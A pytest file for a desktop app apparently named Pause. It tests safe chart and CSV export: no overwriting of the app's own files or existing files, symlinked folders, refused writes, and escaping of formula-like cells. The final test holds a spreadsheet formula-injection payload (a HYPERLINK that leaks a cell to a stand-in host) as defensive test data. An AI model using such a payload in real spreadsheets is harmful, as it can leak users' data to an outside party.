"""Saving the chart as an image and the days shown as a table, with the same care for both:
never over Pause's own files, never over a file the dialog did not ask about."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest

from pause_app.core.model import Felt, NewActivity
from pause_app.storage import export
from pause_app.storage.paths import AppPaths
from pause_app.storage.store import Store
from pause_app.ui.progress.chart import ChartRange, ProgressChart
from pause_app.ui.progress.saving import SaveLocation
from tests.helpers.clock import FakeClock


def test_save_the_chart_as_an_image(
    chart: ProgressChart, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out" / "chart"
    monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args: target))
    said: list[str] = []
    chart.saved.connect(said.append)
    chart.save_image_action.trigger()
    saved = target.with_name("chart.png")
    assert saved.read_bytes().startswith(b"\x89PNG")
    assert said == [f"Saved {saved}."]


def test_save_the_days_shown_as_csv(
    chart: ProgressChart, tmp_path: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "days.csv"
    monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args: target))
    chart.range_buttons[ChartRange.WEEK].click()
    chart.save_csv_action.trigger()
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert [r["day"] for r in rows] == [
        (clock.today - timedelta(days=n)).isoformat() for n in range(6, -1, -1)
    ]
    crash = rows[4]
    assert (crash["done"], crash["mark"], crash["felt"], crash["note"]) == (
        "20",
        "crash",
        "crash",
        "too much",
    )
    assert rows[3]["pauses"] == "2" and rows[3]["done"] == ""  # a gap stays empty, not 0


def test_the_image_is_the_chart_not_its_buttons(chart: ProgressChart) -> None:
    from PySide6.QtGui import QImage

    image = QImage.fromData(chart.image_bytes())
    assert image.height() == chart.sheet.height() < chart.height()


def test_saving_never_replaces_pauses_own_files(
    qtbot, store: Store, clock: FakeClock, history: dict[str, int], tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    kept = tmp_path / "kept.csv"
    kept.write_text("Pause's own")
    widget = ProgressChart(store, clock, own_files=lambda: {kept.resolve()})
    qtbot.addWidget(widget)
    widget.reload()
    monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args: kept))
    said: list[str] = []
    widget.saved.connect(said.append)
    assert widget.save_csv() is None
    assert kept.read_text() == "Pause's own"
    assert said == [f"{kept} is in Pause's own folders; choose a place outside them."]


def test_the_own_files_are_the_database_settings_and_log(pause_home: AppPaths) -> None:
    own = pause_home.own_files()
    assert pause_home.database.resolve() in own and pause_home.settings.resolve() in own


def test_a_refused_write_says_why_and_changes_nothing(
    chart: ProgressChart, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("x")
    monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args: blocked / "chart.csv"))
    said: list[str] = []
    chart.saved.connect(said.append)
    assert chart.save_csv() is None
    assert said and said[0].startswith("Could not save")
    assert blocked.read_text() == "x"


def test_a_name_that_would_replace_another_file_is_refused(
    chart: ProgressChart, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    existing = tmp_path / "chart.csv"
    existing.write_text("keep me")
    monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args: tmp_path / "chart"))
    said: list[str] = []
    chart.saved.connect(said.append)
    assert chart.save_csv() is None
    assert existing.read_text() == "keep me"
    assert said == [f"{existing} already exists; choose another name."]


def test_the_image_is_saved_with_the_same_care_as_the_table(
    qtbot, store: Store, clock: FakeClock, history: dict[str, int], tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    existing = tmp_path / "chart.png"
    existing.write_bytes(b"keep me")
    kept = tmp_path / "kept.png"
    kept.write_bytes(b"Pause's own")
    widget = ProgressChart(store, clock, own_files=lambda: {kept.resolve()})
    qtbot.addWidget(widget)
    widget.reload()
    said: list[str] = []
    widget.saved.connect(said.append)
    for asked in (tmp_path / "chart", kept):
        monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args, a=asked: a))
        assert widget.save_image() is None
    assert existing.read_bytes() == b"keep me" and kept.read_bytes() == b"Pause's own"
    assert said == [
        f"{existing} already exists; choose another name.",
        f"{kept} is in Pause's own folders; choose a place outside them.",
    ]


def test_nothing_is_saved_anywhere_in_pauses_folders(
    qtbot, store: Store, clock: FakeClock, history: dict[str, int], pause_home: AppPaths,
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """Not only the files Pause names: the damaged copies it keeps, old logs, a settings
    backup, a name not used yet, and the same folder reached through a link."""
    pause_home.log_dir.mkdir(parents=True, exist_ok=True)
    kept = {
        pause_home.data_dir / "pause.corrupt-20260301-101010.sqlite3": b"damaged, kept",
        pause_home.log_dir / "pause.log.1": b"an older log",
        pause_home.config_dir / "settings.json.bak": b"{}",
    }
    for path, content in kept.items():
        path.write_bytes(content)
    link = tmp_path / "link-to-data"
    link.symlink_to(pause_home.data_dir)
    asked = [
        *(path.with_suffix(suffix) for path in kept for suffix in (".csv", ".png")),
        *kept,
        pause_home.data_dir / "new-name.csv",
        link / "pause.corrupt-20260301-101010.csv",
    ]
    widget = ProgressChart(store, clock, own_files=pause_home.own_files)
    qtbot.addWidget(widget)
    widget.reload()
    said: list[str] = []
    widget.saved.connect(said.append)
    before = sorted(p for p in pause_home.data_dir.rglob("*"))
    for target in asked:
        monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args, t=target: t))
        assert widget.save_csv() is None, target
        assert widget.save_image() is None, target
    assert all(path.read_bytes() == content for path, content in kept.items())
    assert sorted(p for p in pause_home.data_dir.rglob("*")) == before
    assert len(said) == 2 * len(asked)
    assert all(
        line.endswith("is in Pause's own folders; choose a place outside them.") for line in said
    )


def test_the_days_table_is_text_in_a_spreadsheet_never_a_formula(
    qtbot, store: Store, clock: FakeClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name, a unit or a note that starts like a formula is kept as text (OWASP)."""
    note = '=HYPERLINK("http://example.invalid/?leak="&D2,"click me")'
    activity = store.activities.add(NewActivity("=1+1", "+steps", 10), clock())
    store.attempts.add(activity.id, 12, Felt.GOOD, note, clock())
    widget = ProgressChart(store, clock)
    qtbot.addWidget(widget)
    widget.reload()
    widget.choose(activity.id)
    target = tmp_path / "days.csv"
    monkeypatch.setattr(SaveLocation, "ask", classmethod(lambda cls, *args: target))
    assert widget.save_csv() == target
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    today = rows[-1]
    assert (today["activity"], today["unit"], today["note"]) == ("'=1+1", "'+steps", "'" + note)
    assert today["done"] == "12"
    cells = [value for row in rows for value in row.values()]
    assert not [value for value in cells if value.startswith(export.FORMULA_STARTS)]
